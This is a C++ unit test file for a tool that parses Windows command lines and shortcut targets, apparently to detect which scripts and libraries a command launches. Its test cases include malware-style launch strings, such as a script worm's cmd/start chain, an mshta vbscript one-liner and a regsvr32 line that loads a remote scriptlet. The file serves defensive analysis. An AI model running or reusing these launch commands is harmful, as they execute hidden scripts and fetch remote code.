// Command lines (readers/command_line.cpp): splitting as Windows does, environment strings, the
// program by the CreateProcess rules, and the files a command starts through cmd, the script
// and library hosts, start, call and explorer.
#include "readers/command_line.h"

#include "tests/support/command_line_cases.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace tidewick::readers {
namespace {

TEST(CommandLine, SplitsAsCommandLineToArgvW) {
  for (const testing::ArgvCase& c : testing::kArgvCases) {
    const std::vector<std::string> argv = CommandLineToArgv(c.commandLine);
    EXPECT_EQ(argv, std::vector<std::string>(c.argv.begin(), c.argv.end())) << c.commandLine;
  }
}

TEST(CommandLine, ExpandsAsExpandEnvironmentStrings) {
  const Environment environment = {{"TW_FOO", "F"}, {"TW_PATHX", "P"}};
  for (const testing::ExpandCase& c : testing::kExpandCases) {
    EXPECT_EQ(ExpandEnvironment(c.text, environment), c.expanded) << c.text;
  }
  // One pass: a value that names a variable is not expanded again.
  const Environment nested = {{"A", "%B%"}, {"B", "b"}};
  EXPECT_EQ(ExpandEnvironment("%A%", nested), "%B%");
}

TEST(CommandLine, FindsTheProgramByTheRulesOfCreateProcess) {
  const ProgramName quoted = SplitProgramName("  \"C:\\Program Files\\a b\\x.exe\"  /s");
  EXPECT_EQ(quoted.name, "C:\\Program Files\\a b\\x.exe");
  EXPECT_TRUE(quoted.quoted);
  EXPECT_EQ(quoted.arguments, "/s");
  EXPECT_TRUE(quoted.longerCandidates.empty());

  // Unquoted with blanks: the first word is the name, and the longer names are only noted.
  const ProgramName unquoted = SplitProgramName("C:\\Program Files\\a b.exe  x");
  EXPECT_EQ(unquoted.name, "C:\\Program");
  EXPECT_FALSE(unquoted.quoted);
  EXPECT_EQ(unquoted.arguments, "Files\\a b.exe  x");
  EXPECT_EQ(unquoted.longerCandidates,
            (std::vector<std::string>{"C:\\Program Files\\a", "C:\\Program Files\\a b.exe",
                                      "C:\\Program Files\\a b.exe  x"}));

  const ProgramName unterminated = SplitProgramName("\"C:\\x y\\p.exe");
  EXPECT_EQ(unterminated.name, "C:\\x y\\p.exe");
  EXPECT_EQ(unterminated.arguments, "");

  std::string many = "a";
  for (int i = 0; i < 100; ++i) many += " b";
  EXPECT_EQ(SplitProgramName(many).longerCandidates.size(), kMaxProgramCandidates);
}

TEST(CommandLine, KnowsTheHostsByTheirFileName) {
  EXPECT_EQ(HostKindOf("C:\\Windows\\System32\\CMD.EXE"), HostKind::CommandShell);
  EXPECT_EQ(HostKindOf("cmd"), HostKind::CommandShell);
  EXPECT_EQ(HostKindOf("WScript.exe"), HostKind::ScriptHost);
  EXPECT_EQ(HostKindOf("C:\\Windows\\SysWOW64\\cscript.exe"), HostKind::ScriptHost);
  EXPECT_EQ(HostKindOf("mshta"), HostKind::ScriptHost);
  EXPECT_EQ(HostKindOf("%windir%\\System32\\rundll32.exe"), HostKind::LibraryHost);
  EXPECT_EQ(HostKindOf("regsvr32.exe"), HostKind::LibraryHost);
  EXPECT_EQ(HostKindOf("C:\\Windows\\explorer.exe"), HostKind::Explorer);
  EXPECT_EQ(HostKindOf("E:\\cmd.bat"), HostKind::None);
  EXPECT_EQ(HostKindOf("E:\\wscript.vbs"), HostKind::None);
  EXPECT_EQ(HostKindOf("E:\\x.exe"), HostKind::None);
}

std::vector<std::string> Started(const CommandAnalysis& analysis) {
  std::vector<std::string> lines;
  for (const StartedFile& file : analysis.started) {
    std::string line(StartReasonText(file.why));
    if (!file.via.empty()) line += " (" + file.via + ")";
    lines.push_back(line + ": " + file.path);
  }
  return lines;
}

std::vector<std::string> Opened(const CommandAnalysis& analysis) {
  std::vector<std::string> lines;
  for (const OpenedTarget& target : analysis.opened) lines.push_back(target.via + ": " + target.path);
  return lines;
}

struct AnalysisCase {
  const char* commandLine;
  std::vector<std::string> started;
  std::vector<std::string> opened;
  std::size_t notes;
};

const Environment kEnvironment = {{"TEMP", "C:\\Users\\u\\AppData\\Local\\Temp"},
                                  {"APPDATA", "C:\\Users\\u\\AppData\\Roaming"},
                                  {"windir", "C:\\Windows"}};

const AnalysisCase kAnalysisCases[] = {
    // The script worm's link, for a folder and for a file.
    {"cmd.exe /c start x.vbs&start explorer \"My Photos\"&exit", {"chained command (start): x.vbs"},
     {"explorer: My Photos"}, 0},
    {"cmd.exe /c start x.vbs&start explorer My\" \"Photos&exit", {"chained command (start): x.vbs"},
     {"explorer: My Photos"}, 0},
    {"C:\\Windows\\system32\\cmd.exe /c start worm.vbs&start report.docx&exit",
     {"chained command (start): worm.vbs", "chained command (start): report.docx"}, {}, 0},
    // Script hosts, with their options skipped.
    {"wscript.exe //B \"%TEMP%\\x y.vbs\"", {"script (wscript.exe): C:\\Users\\u\\AppData\\Local\\Temp\\x y.vbs"}, {}, 0},
    {"wscript /e:vbs winfile.jpg", {"script (wscript): winfile.jpg"}, {}, 0},
    {"cscript.exe //nologo //E:jscript a.js //T:10 arg", {"script (cscript.exe): a.js"}, {}, 0},
    {"wscript.exe //B", {}, {}, 1},
    {"mshta E:\\x.hta", {"script (mshta): E:\\x.hta"}, {}, 0},
    {"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"x\"\"\")(window.close)", {}, {}, 1},
    // Library hosts.
    {"rundll32 %APPDATA%\\a.dll,Start", {"library (rundll32): C:\\Users\\u\\AppData\\Roaming\\a.dll"}, {}, 0},
    {"%windir%\\System32\\rundll32.exe \"~%W.ini, lnk\"", {"library (rundll32.exe): ~%W.ini"}, {}, 0},
    {"rundll32.exe \"E:\\a b.dll\",Entry x", {"library (rundll32.exe): E:\\a b.dll"}, {}, 0},
    {"regsvr32 /s /i E:\\x.dll", {"library (regsvr32): E:\\x.dll"}, {}, 0},
    {"regsvr32.exe /s /n /u /i:http://h/a.sct scrobj.dll",
     {"script (regsvr32.exe /i): http://h/a.sct", "library (regsvr32.exe): scrobj.dll"}, {}, 0},
    // Plain programs.
    {"C:\\Users\\u\\winmgr.exe /n", {"program: C:\\Users\\u\\winmgr.exe"}, {}, 0},
    {"\"C:\\Program Files\\App\\app.exe\" -min", {"program: C:\\Program Files\\App\\app.exe"}, {}, 0},
    {"%NOPE%\\x.exe", {"program: %NOPE%\\x.exe"}, {}, 0},
    // cmd: its quotes, options, start, call, redirections and chains.
    {"cmd /c \"start x.vbs & start explorer Docs\"", {"chained command (start): x.vbs"}, {"explorer: Docs"}, 0},
    {"cmd /c \"\"C:\\My Files\\run.bat\" arg\"", {"chained command (cmd /c): C:\\My Files\\run.bat"}, {}, 0},
    {"cmd /c \"C:\\My Files\\run.bat\"", {"chained command (cmd /c): C:\\My Files\\run.bat"}, {}, 0},
    {"cmd /s /c \"x.vbs\"", {"chained command (cmd /c): x.vbs"}, {}, 0},
    {"cmd /q /d /c call x.bat arg&call :label", {"chained command (call): x.bat"}, {}, 0},
    {"cmd /cstart x.vbs", {"chained command (start): x.vbs"}, {}, 0},
    {"cmd /k x.vbs", {"chained command (cmd /c): x.vbs"}, {}, 0},
    {"cmd /c start \"\" /min wscript //B x.vbs", {"script (wscript): x.vbs"}, {}, 0},
    {"cmd /c start /d E:\\ /b x.vbs", {"chained command (start): x.vbs"}, {}, 0},
    {"cmd /c start \"My Photos\"", {}, {}, 1},
    {"cmd /c start/min x.vbs", {"chained command (start): x.vbs"}, {}, 0},
    {"cmd /c @echo off & (start a.vbs) >nul 2>&1 | more",
     {"chained command (start): a.vbs", "chained command (cmd /c): more"}, {}, 0},
    {"cmd /c start a.vbs&&start b.vbs||start c.vbs|start d.vbs",
     {"chained command (start): a.vbs", "chained command (start): b.vbs", "chained command (start): c.vbs",
      "chained command (start): d.vbs"},
     {}, 0},
    {"cmd /c echo a^&start x.vbs", {}, {}, 0},
    {"cmd /c start >&\u00A6.vbs", {"chained command (start): \u00A6.vbs"}, {}, 0},
    {"cmd /c if exist x.vbs start x.vbs", {}, {}, 1},
    {"cmd /c cmd /c cmd /c x.vbs", {"chained command (cmd /c): x.vbs"}, {}, 0},
    {"cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c x.vbs", {}, {}, 1},
    {"cmd", {}, {}, 1},
    // Explorer and what it opens.
    {"explorer.exe /e,E:\\Docs", {}, {"explorer: E:\\Docs"}, 0},
    {"explorer /select,E:\\a.txt", {}, {"explorer: E:\\a.txt"}, 0},
    {"C:\\Windows\\explorer.exe", {}, {}, 0},
};

TEST(CommandLine, FindsTheFilesACommandStarts) {
  for (const AnalysisCase& c : kAnalysisCases) {
    const CommandAnalysis analysis = AnalyzeCommandLine(c.commandLine, kEnvironment);
    EXPECT_EQ(Started(analysis), c.started) << c.commandLine;
    EXPECT_EQ(Opened(analysis), c.opened) << c.commandLine;
    EXPECT_EQ(analysis.notes.size(), c.notes) << c.commandLine;
  }
}

TEST(CommandLine, AnalysesAShortcutTargetApartFromItsArguments) {
  // A target with blanks is the program as it is; it is not split again.
  const CommandAnalysis link = AnalyzeProgram("C:\\Windows\\System32\\cmd.exe",
                                              "/c start a.vbs&start explorer Docs&exit");
  EXPECT_EQ(link.program, "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(link.host, HostKind::CommandShell);
  EXPECT_EQ(link.arguments, (std::vector<std::string>{"/c", "start", "a.vbs&start", "explorer", "Docs&exit"}));
  ASSERT_NE(link.FileItStarts(), nullptr);
  EXPECT_EQ(link.FileItStarts()->path, "a.vbs");
  EXPECT_EQ(link.FileItStarts()->why, StartReason::ChainedCommand);
  EXPECT_EQ(Opened(link), std::vector<std::string>{"explorer: Docs"});

  const CommandAnalysis plain = AnalyzeProgram("E:\\My Files\\report.docx", "");
  EXPECT_EQ(Started(plain), std::vector<std::string>{"program: E:\\My Files\\report.docx"});

  const CommandAnalysis expanded = AnalyzeProgram("%windir%\\System32\\wscript.exe", "//B %TEMP%\\w.vbs", kEnvironment);
  EXPECT_EQ(expanded.program, "C:\\Windows\\System32\\wscript.exe");
  EXPECT_EQ(Started(expanded), std::vector<std::string>{"script (wscript.exe): C:\\Users\\u\\AppData\\Local\\Temp\\w.vbs"});
}

TEST(CommandLine, NotesTheLongerProgramNamesOfAnUnquotedPath) {
  const CommandAnalysis analysis = AnalyzeCommandLine("C:\\Program Files\\App\\app.exe /x");
  EXPECT_EQ(analysis.program, "C:\\Program");
  EXPECT_EQ(analysis.programCandidates,
            (std::vector<std::string>{"C:\\Program Files\\App\\app.exe", "C:\\Program Files\\App\\app.exe /x"}));
}

}  // namespace
}  // namespace tidewick::readers
